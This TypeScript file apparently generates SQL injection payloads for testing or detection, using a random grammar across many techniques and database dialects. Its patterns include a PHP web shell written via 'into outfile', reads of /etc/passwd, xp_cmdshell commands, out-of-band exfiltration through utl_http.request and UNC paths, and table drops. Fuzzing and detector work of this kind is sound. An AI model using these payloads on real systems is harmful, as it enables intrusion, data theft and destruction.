import type { Random } from "../../random.ts";
import { anyWord, basics, createExpander, type Grammar } from "../grammar.ts";

/** Name of a table or column as applications have them, which no list of targets knows. */
function identifier(random: Random): string {
  const word = anyWord(random);
  return random.pick([
    word,
    word,
    `${word}_${anyWord(random)}`,
    `${word}_id`,
    `${word}s`,
    `${random.pick(["t", "app", "wp", "auth", "tbl"])}_${word}`,
    `${word}${anyWord(random).replace(/^./, (c) => c.toUpperCase())}`,
    `${random.pick(["a", "t", "u", "public", "dbo"])}.${word}`,
  ]);
}

/** A value as statements write it. */
function literal(random: Random): string {
  return random.pick([
    String(random.between(0, 9)),
    String(random.between(0, 99999)),
    "null",
    `'${anyWord(random)}'`,
    `'${anyWord(random)}'`,
    `'${anyWord(random)}@${anyWord(random)}.com'`,
    "''",
    "1",
    "true",
    "now()",
    `"${anyWord(random)}"`,
  ]);
}

const several = (random: Random, most: number, one: () => string) =>
  Array.from({ length: random.between(1, most) }, one).join(random.pick([",", ",", ", "]));

/** SQL injection by dialect and technique, from whole payloads down to fragments of three characters. */
const grammar: Grammar = {
  ...basics,
  attack:
    "‹boolean›\n‹boolean›\n‹boolean›\n‹union›\n‹union›\n‹stacked›\n‹timed›\n‹timed›\n‹error›\n‹fragment›\n‹login›\n‹order›\n‹inline›\n‹embedded›\n‹bare›\n‹bare›\n‹filter›\n‹schema›\n‹schema›\n‹schema›\n‹schema›",
  sp: " \n \n \n \n \n+\n/**/\n%20\n\t\n  \n%09\n%0a\n/*‹xx›*/",
  val: "‹n›\n‹nn›\n‹nnn›\n‹nnnn›\n-‹n›\n-‹nnnn›\n‹word›\n‹xx›\nadmin\ntest\nnull\n\n\n0\n1\n-1\n1.0\n‹word› ‹word›\n‹word›@‹word›.com",
  q: "'\n'\n'\n'\n\"\n\"\n`\n')\n'))\n')))\n\")\n\"))\n)\n))\n%'\n')%\n\\'\n''\n'\"\n’\n%27\n%22",
  qq: "'\n\"",
  close: "--\n-- \n--+\n-- -\n#\n/*\n;--\n;#\n;%00\n--‹word›\n;\n\n%23\n-- ‹xx›\n`\n;-- -\n{",
  logic: "or\nor\nor\nor\nand\nand\nand\nxor\n||\n&&\noR\nOR\nAND\nOr\naNd\nRLIKE\nlike\nHAVING\nWHERE\ndiv",
  pair: (r) => {
    const n = r.between(0, 9999);
    const m = r.chance(0.7) ? n : r.between(0, 9999);
    const text = String.fromCharCode(97 + r.below(26)).repeat(r.between(1, 3));
    return r.pick([
      `${n}=${m}`,
      `${n}=${m}`,
      `${n} = ${m}`,
      `'${text}'='${text}'`,
      `'${text}'='${text}`,
      `"${text}"="${text}`,
      `'${n}'='${m}`,
      `${n}>${r.below(9)}`,
      `${n}<>${m + 1}`,
      `${n}!=${m + 1}`,
      `'${text}' like '${text}`,
      `'${text}'!='${text}a`,
      `${n} like ${n}`,
      `${n} between 0 and ${n + 1}`,
      `${n} in (${n})`,
      `not ${n}=${n + 1}`,
      `${text} is not null`,
      `true`,
      `false`,
      `true=true`,
      "1",
      `'${n}'`,
      `''='`,
      `"="`,
      `''`,
      `(${n})=(${n})`,
      `${n}=${n} limit 1`,
      `exists(select ${n})`,
      `exists(select * from ${text})`,
      `length(${text})>${r.below(20)}`,
      `ascii(substr((select database()),${r.between(1, 9)},1))>${r.between(40, 120)}`,
    ]);
  },
  boolean:
    "‹val›‹q›‹sp›‹logic›‹sp›‹pair›‹close›\n‹val›‹q›‹sp›‹logic›‹sp›‹pair›‹sp›‹close›\n‹val›‹q›‹sp›‹logic›‹sp›‹pair›\n‹q›‹logic›‹qq›‹pair›\n‹val›‹q› ‹logic› (‹pair›) and (‹q›‹xx›‹q›=‹q›‹xx›\n‹val›‹sp›‹logic›‹sp›‹pair›\n‹val›‹sp›‹logic›‹sp›‹pair›‹close›\n‹q› ‹logic› ‹fnpred›‹close›\n‹val›‹q› ‹logic› ‹fnpred› and ‹q›‹xx›‹q›=‹q›‹xx›\n‹val› ‹logic› ‹fnpred›\n(‹val›) ‹logic› (‹pair›)\n‹val›‹q›‹logic›/**/‹pair›‹close›\n‹q›=‹q›‹q›‹logic›‹q›\n‹val›‹q› ‹logic› not ‹pair›‹close›\n‹val›‹q›=0‹close›\n‹val›‹q›^‹n›^‹q›‹n›\n‹val›‹q›-‹q›\n‹val›‹q›‹|,+|||› ‹q›‹xx›",
  fnpred:
    "substring(‹what›,‹n›,1)=‹qq›‹letter›‹qq›\nascii(substr(‹what›,‹n›,1))‹=|>|<›‹nn›\nlength(‹what›)=‹nn›\n(select count(*) from ‹table›)>‹n›\n(select ‹col› from ‹table› limit 1)=‹qq›‹xx›‹qq›\n‹what› like ‹qq›‹letter›%‹qq›\nmid(‹what›,1,1)=char(‹nn›)\n(‹what›) is not null\n‹col› like 0x‹hex›\nord(mid((‹what›),‹n›,1))>‹nn›\n‹what› regexp ‹qq›^‹letter›‹qq›\nif(‹pair›,‹n›,0)\niif(‹pair›,1,1/0)\n(case when ‹pair› then ‹n› else ‹n› end)=‹n›\n‹col› is null\nunicode(substring((‹what›),‹n›,1))>‹nn›",
  what: "database()\nversion()\n@@version\nuser()\ncurrent_user\n(select ‹col› from ‹table› limit ‹n›,1)\n(select table_name from information_schema.tables limit 1)\npassword\nusername\n(select group_concat(table_name) from information_schema.tables where table_schema=database())\nsystem_user\nsession_user\n@@datadir\nsqlite_version()\ndb_name()\n(select banner from v$version where rownum=1)",
  table:
    "users\nuser\nadmin\naccounts\nmembers\ncustomers\ninformation_schema.tables\ninformation_schema.columns\nmysql.user\nsysobjects\nsqlite_master\nall_tables\npg_catalog.pg_tables\ndual\nmaster..sysdatabases\n‹word›\n‹word›s\norders\nproducts\nemployee\npg_shadow\nmsysobjects",
  col: "username\npassword\nid\nemail\nlogin\npasswd\ntable_name\ncolumn_name\nname\npass\nuid\n*\n‹word›\n‹word›_id\ncredit_card\nhash",
  cols: (r) => {
    const one = () =>
      r.pick([
        "null",
        "null",
        "null",
        String(r.between(1, 30)),
        "@@version",
        "user()",
        "'a'",
        "version()",
        `char(${r.between(33, 120)})`,
        "password",
        "username",
        `0x${r.between(10, 9999)}`,
        "database()",
        "concat(username,0x3a,password)",
        "table_name",
        "group_concat(column_name)",
        "load_file('/etc/passwd')",
        "'<?php system($_GET[0]);?>'",
      ]);
    return Array.from({ length: r.between(1, 12) }, one).join(r.pick([",", ",", ", "]));
  },
  ident: identifier,
  idents: (r) => several(r, 6, () => identifier(r)),
  assigns: (r) => several(r, 3, () => `${identifier(r)}=${literal(r)}`),
  values: (r) =>
    several(r, 9, () =>
      r.chance(0.2)
        ? `(select ${identifier(r)} from ${identifier(r)}${r.pick(["", " limit 1", " limit 0,1"])})`
        : literal(r),
    ),
  cond: (r) => `${identifier(r)}${r.pick(["=", "=", ">", "<>", " like ", " is not ", ">="])}${literal(r)}`,
  lead: "‹val›\n‹val›\n‹word› ‹word›\n‹word› ‹word› ‹word›\n/‹word›/‹word›-‹word›\n‹word›-‹word›\n‹word›.‹word›\n\n(‹word›)\n‹word›:‹word›",
  schema:
    "‹lead›‹q›‹sp›union‹sp›select‹sp›‹idents›‹sp›from‹sp›‹ident›‹close›\n‹lead›‹q› union all select ‹idents› from ‹ident› where ‹cond›‹close›\n‹n›) union select ‹idents› from ‹ident› where ‹cond›‹close›\n‹nn› UNION ALL SELECT ‹idents› FROM ‹ident› ORDER BY ‹n›‹close›\n‹lead›‹q› union select ‹n›,‹idents›,‹n› from ‹ident› limit ‹n›,‹n›‹close›\n‹lead›‹q› union select ‹idents› from ‹ident› ‹letter› join ‹ident› on ‹ident›=‹ident›‹close›\n‹lead›‹q›) union select group_concat(‹ident›) from ‹ident›‹close›\n‹lead›‹q›,‹values›)‹close›\n‹lead›‹q›),(‹values›)‹close›\n‹lead›‹q›, ‹values›); ‹close›\n‹lead›‹q›,‹values›),(‹q›‹word›‹q›,‹values›)‹close›\n‹lead›‹q›,‹assigns›‹close›\n‹lead›‹q›,‹assigns› where ‹cond›‹close›\n‹lead›‹q›;‹sp›update‹sp›‹ident›‹sp›set‹sp›‹assigns›‹close›\n‹lead›‹q›;UPDATE ‹ident› SET ‹assigns› WHERE ‹cond›;‹close›\n‹lead›‹q›); update ‹ident› set ‹assigns› where ‹cond›‹close›\n‹lead›‹q›; insert into ‹ident›(‹idents›) values(‹values›)‹close›\n‹lead›‹q›;INSERT INTO ‹ident› VALUES (‹values›);‹close›\n‹lead›‹q›; replace into ‹ident› select ‹idents› from ‹ident›‹close›\n‹lead›‹q›;delete from ‹ident› where ‹cond›‹close›\n‹n›;delete from ‹ident›‹close›\n‹lead›‹q›;create table ‹ident› as select ‹idents› from ‹ident›‹close›\n‹lead›‹q›; select ‹idents› from ‹ident› where ‹cond›‹close›\n‹n›; select ‹idents› from ‹ident›‹close›\n‹lead›‹q›;do $$ begin perform ‹ident›(); end $$‹close›\n‹lead›‹q›; call ‹ident›(‹values›)‹close›\n‹lead›‹q›; begin; ‹delete from|truncate table› ‹ident›; commit‹close›\n‹lead›‹q›;set @‹letter›=(select ‹ident› from ‹ident› limit 1)‹close›\n‹lead›‹q› ‹logic› (select ‹ident› from ‹ident› where ‹cond› limit 1)=‹qq›‹word›‹qq›‹close›\n‹lead›‹q› ‹logic› ‹cond› ‹logic› ‹cond›‹close›\n‹lead›‹q› ‹logic› ‹ident› in (select ‹ident› from ‹ident›)‹close›\n‹lead›‹q› ‹logic› exists(select ‹n› from ‹ident› where ‹cond›)‹close›\n‹ident› ‹asc|desc›,(select ‹ident› from ‹ident› limit 1)\n(select ‹n› from ‹ident› where ‹cond› and substr(‹ident›,‹n›,1)=‹qq›‹letter›‹qq›)\n‹lead›‹q›||(select ‹ident› from ‹ident› where ‹cond›)||‹q›\n‹lead›‹q› and (select length(‹ident›) from ‹ident› limit ‹n›,1)>‹n›‹close›\n‹lead›‹q› group by ‹ident› having count(*)>‹n›‹close›",
  union:
    "‹val›‹q›‹sp›union‹sp›select‹sp›‹cols›‹close›\n‹val›‹q› union all select ‹cols›‹close›\n‹val› union select ‹cols› from ‹table›‹close›\n‹val›‹q› UNION SELECT ‹cols› FROM ‹table› WHERE ‹pair›‹close›\n‹val›‹q›‹sp›UnIoN‹sp›aLL‹sp›SeLeCt‹sp›‹cols›\n‹val›)‹sp›union‹sp›select‹sp›‹cols›‹close›\nunion select ‹cols›\nunion all select ‹cols›‹close›\n‹val›‹q› /*!‹nnnn›union*/ /*!‹nnnn›select*/ ‹cols›‹close›\n‹val›‹q› union(select(‹n›),(‹n›))‹close›\n‹val›‹q› union distinct select ‹cols› from ‹table›\n‹q›‹q› union select ‹cols› into outfile ‹qq›/var/www/html/‹xx›.php‹qq›‹close›\n‹val›‹q›/**/union/**/select/**/‹cols›‹close›\n‹val›‹q› union values(‹n›,‹n›)‹close›\n‹val›‹q› union select * from ‹table›‹close›\n‹val›‹q›%0aunion%0aselect%0a‹cols›‹close›\n‹val›‹q› union select ‹cols› from (select ‹n›)a join (select ‹n›)b‹close›",
  stacked:
    "‹val›‹q›; drop table ‹table›‹close›\n‹val›‹q›;insert into ‹table› values(‹cols›)‹close›\n‹val›‹q›; update ‹table› set ‹col›=‹qq›‹word›‹qq› where ‹pair›‹close›\n‹val›; delete from ‹table›‹close›\n‹val›‹q›; exec master..xp_cmdshell ‹qq›‹dir|whoami|ping ›‹word›‹qq›‹close›\n‹q›;shutdown‹close›\n‹val›‹q›; exec sp_configure ‹qq›show advanced options‹qq›,1; reconfigure‹close›\n; declare @‹xx› varchar(‹nnn›); set @‹xx›=0x‹hex›‹hex›; exec(@‹xx›)‹close›\n‹val›‹q›;select pg_sleep(‹n›)‹close›\n‹val›‹q›; create user ‹word› identified by ‹qq›‹word›‹qq›‹close›\n‹val›‹q›;copy (select ‹qq›‹qq›) to program ‹qq›nslookup ‹word›.com‹qq›‹close›\n‹val›; truncate table ‹table›‹close›\n‹val›‹q›; alter table ‹table› drop column ‹col›‹close›\n; drop database ‹word›‹close›\n‹val›‹q›); ‹drop|truncate› table ‹table›‹close›\n‹val›‹q›;attach database ‹qq›/var/www/‹xx›.php‹qq› as ‹xx›‹close›\n‹val›‹q›; grant all on ‹table› to ‹word›‹close›\n‹val›‹q›;waitfor delay ‹qq›0:0:‹n›‹qq›‹close›",
  timed:
    "‹val›‹q› ‹logic› sleep(‹n›)‹close›\n‹val›‹q›‹sp›‹logic›‹sp›sleep(‹nn›)#\n‹val›‹q› ‹logic› (select * from (select(sleep(‹n›)))‹xx›)‹close›\n‹val›‹q› and if(‹pair›,sleep(‹n›),0)‹close›\n‹val›‹q›; waitfor delay ‹qq›0:0:‹n›‹qq›‹close›\n‹val›‹q› waitfor delay ‹qq›00:00:‹nn›‹qq›‹close›\n‹val›‹q› ‹logic› pg_sleep(‹n›)‹close›\n‹val›‹q›||pg_sleep(‹n›)‹close›\n‹val›‹q› and ‹n›=(select ‹n› from pg_sleep(‹n›))‹close›\n‹val›‹q› ‹logic› benchmark(‹nnnn›000,md5(‹n›))‹close›\n‹val›‹q› and dbms_pipe.receive_message(‹qq›‹xx›‹qq›,‹n›)=‹n›‹close›\n‹q›‹qq›+(select*from(select(sleep(‹nn›)))a)+‹qq›\n(select(0)from(select(sleep(‹n›)))v)\n‹val›‹q› and ‹n›=like(‹qq›abcdefg‹qq›,upper(hex(randomblob(‹nnnn›000000/2))))‹close›\nif(now()=sysdate(),sleep(‹nn›),0)\nsleep(‹n›)‹close›\n‹val›-sleep(‹n›)\n1;select sleep(‹n›)\npg_sleep(‹n›)\n; waitfor delay '0:0:‹n›'--\nxor(if(now()=sysdate(),sleep(‹nn›),0))or",
  error:
    "‹val›‹q› and extractvalue(‹n›,concat(0x7e,(‹what›)))‹close›\n‹val›‹q› and updatexml(‹n›,concat(0x‹nn›,(‹what›),0x7e),‹n›)‹close›\n‹val›‹q› and (select ‹n› from(select count(*),concat((‹what›),floor(rand(0)*2))x from information_schema.tables group by x)a)‹close›\n‹val›‹q› and 1=convert(int,(‹what›))‹close›\n‹val›‹q› and ‹n›=cast((‹what›) as ‹int|numeric|integer›)‹close›\n‹val›‹q› and 1=ctxsys.drithsx.sn(1,(‹what›))‹close›\n‹val›‹q› and exp(~(select * from (‹what›)a))‹close›\nextractvalue(rand(),concat(0x3a,‹what›))\nupdatexml(null,concat(0x3a,‹what›),null)\n‹val›‹q› having ‹pair›‹close›\n‹val›‹q› group by ‹table›.‹col› having ‹pair›‹close›\nutl_inaddr.get_host_address((‹what›))\n‹val›‹q› and gtid_subset(concat(0x7e,(‹what›)),‹n›)‹close›\n‹val›‹q› or 1 group by concat(‹what›,floor(rand(0)*2)) having min(0)‹close›\n‹val›‹q› procedure analyse(extractvalue(rand(),concat(0x3a,‹what›)),1)‹close›\n‹val›‹q› and json_keys((select convert((‹what›) using utf8)))‹close›\n(select ‹what›)\n‹val›,(select ‹n› from ‹table›)\nconvert(int,@@version)\n‹val›/(select ‹n›/0)",
  fragment:
    "‹q›‹close›\n‹q› ‹close›\n‹q› ‹logic› ‹q›\n‹q›‹logic›‹n›‹close›\n‹q› or ‹q›‹q›=‹q›\n‹q›=‹q›\n‹val›‹q›--\n‹val›‹q›#\n‹val›‹q› --\n‹val›‹q›/*\nor  or ‹n›=‹n›\n) or (‹n›=‹n›\n‹q›;--\n‹q›))--\n‹q› or 1‹close›\n‹q›or‹q›\n1‹q›1\n‹q›||‹q›\n‹q›+‹q›\n‹q› and ‹q›1‹q›=‹q›1\n‹q› order by ‹n›‹close›\n‹qq›;\n/**/or/**/1=1\n‹q› limit 1‹close›\n'||'\n')-- \nor true--\n'=0--+\n'-'\n'*'\n'&'\n'^'\n' or ''-'\n' or '' '\n\" or \"\"-\"\n' or true\n@@version\n1 or 1=1\n1' or '1\n'='\n'>''\n' || 1\n) --\n1=1\n1=1--",
  login:
    "admin‹q›--\nadmin‹q› #\nadmin‹q›/*\nadmin‹q› or ‹pair›‹close›\n‹word›‹q› or ‹pair›‹close›\nadmin‹q›) or (‹q›1‹q›=‹q›1\n‹q› or ‹q›1‹q›=‹q›1\nadmin‹q› and ‹pair›‹close›\n‹word›‹q›-- \nroot‹q›--\n‹word›@‹word›.com‹q› or ‹pair›‹close›\n‹q› or 1=1 limit 1 -- -+\n‹q› or ‹col› like ‹q›%‹letter›%‹close›\n‹word›‹q› and ‹col›=‹q›‹word›\nadministrator‹q›‹close›\n‹q› or uid like ‹q›%",
  order:
    "‹val›‹q› order by ‹nn›‹close›\n‹val› order by ‹n›‹close›\n‹val›‹q› group by ‹n›,‹n›,‹n›‹close›\n(case when (‹pair›) then ‹col› else ‹col› end)\n‹col›,(select sleep(‹n›))\nif(‹pair›,‹col›,(select ‹n› union select ‹n›))\n‹col› and ‹pair›\n‹val›‹q› limit ‹n›,‹n› into outfile ‹qq›/tmp/‹xx›‹qq›‹close›\n‹col›;select ‹what›‹close›\n‹col› asc,extractvalue(‹n›,concat(0x7e,‹what›))\nrlike (select (case when (‹pair›) then 1 else 0x28 end))\n‹n› procedure analyse()‹close›",
  inline:
    "‹val›‹q›||(select ‹what›)||‹q›\n‹val›‹q›+(select ‹what›)+‹q›\n‹val›‹q› and (select ‹what›) like ‹qq›%\n‹q›||‹what›||‹q›\n‹val›‹q›||utl_http.request(‹qq›http://‹word›.com/‹qq›||(‹what›))||‹q›\n‹val›*(select ‹n›)\n(select(‹what›))\n‹val›-(case when ‹pair› then ‹n› else 0 end)\n‹q›+‹what›+‹q›\n‹val›‹q›||‹qq›‹xx›\n‹val›' || '‹xx›' || '\nconcat(char(‹nn›),‹what›)\n‹qq›+convert(int,db_name())+‹qq›\n‹val›‹q› ‹logic› row(‹n›,‹n›)>(select count(*),‹what›)‹close›\n‹q›,(‹what›),‹q›\n‹val›‹q›,‹q›‹word›‹q›)‹close›\n‹q›)); ‹drop|delete|select› ‹word›",
  embedded:
    "‹word› ‹word›‹q› ‹logic› ‹pair›‹close›\n‹word›+‹word›‹q› union select ‹cols›‹close›\nsearch‹q›) ‹logic› ‹pair›‹close›\n‹word›‹q› and (select ‹n› from ‹table› where ‹pair›)=‹n›‹close›\n/‹word›/‹nn›‹q›‹logic›‹pair›\n?id=‹n›‹q› ‹logic› ‹pair›‹close›\nid=‹n› union select ‹cols›\n‹word›=‹val›‹q›‹sp›‹logic›‹sp›‹pair›‹close›",
  bare: "select ‹what›\ndrop table ‹table›‹close›\nexec xp_cmdshell(‹qq›‹word›‹qq›)\nexec master.dbo.xp_dirtree ‹qq›\\\\‹ip›\\‹xx›‹qq›\nhaving ‹pair›‹close›\ngroup by ‹table›.‹col› having 1=1‹close›\n‹fnpred›\nload_file(‹qq›/etc/passwd‹qq›)\nchar(‹nn›)+char(‹nn›)+char(‹nn›)\nchr(‹nn›)||chr(‹nn›)||chr(‹nn›)\ninto outfile ‹qq›/var/www/‹xx›.php‹qq›‹close›\nunion all select null\n@@version,‹n›,‹n›\nsysdate()\ncase when ‹pair› then 1 else 0 end\n(select top 1 ‹col› from ‹table›)\nwaitfor delay '0:0:‹n›'\nbenchmark(‹nnnn›000,sha1(1))\nselect load_extension(‹qq›\\\\‹ip›\\‹xx›‹qq›)\n0x‹hex› union\ndeclare @‹xx› int\n‹n› and ‹n›=‹n›\n‹n› or ‹n›=‹n›\n‹n›-‹n› or ‹n›\n‹n› and sleep(‹n›)",
  filter:
    "‹val›‹q›‹sp›||‹sp›‹pair›‹close›\n‹val›‹q›&&‹pair›‹close›\n‹val›‹q›/*!or*/‹pair›‹close›\n‹val›‹q›%20or%20‹pair›--\n‹val›‹q›%a0or%a0‹pair›\n‹val›‹q›oorr‹sp›‹pair›\n‹val›‹q›/*‹xx›*/Or/*‹xx›*/‹pair›\n‹val›‹q› seLEct ‹cols› fRoM ‹table›\n‹val›‹q›=(‹n›)or(‹n›)=(‹n›)‹close›\n‹val›‹q›or(1)like(1)‹close›\n‹val›‹q›or\t1\t=\t1‹close›\n‹val›‹q›un/**/ion se/**/lect ‹cols›‹close›\n‹val›‹q›and(select(‹n›)from(‹table›)where(‹pair›))‹close›\n‹val›‹q›.0or‹pair›‹close›\n‹val›‹q›@:=(select(‹what›))\n‹val›‹q›\\Nunion(select ‹n›,‹n›)",
};

export const sqlGrammar = createExpander(grammar);
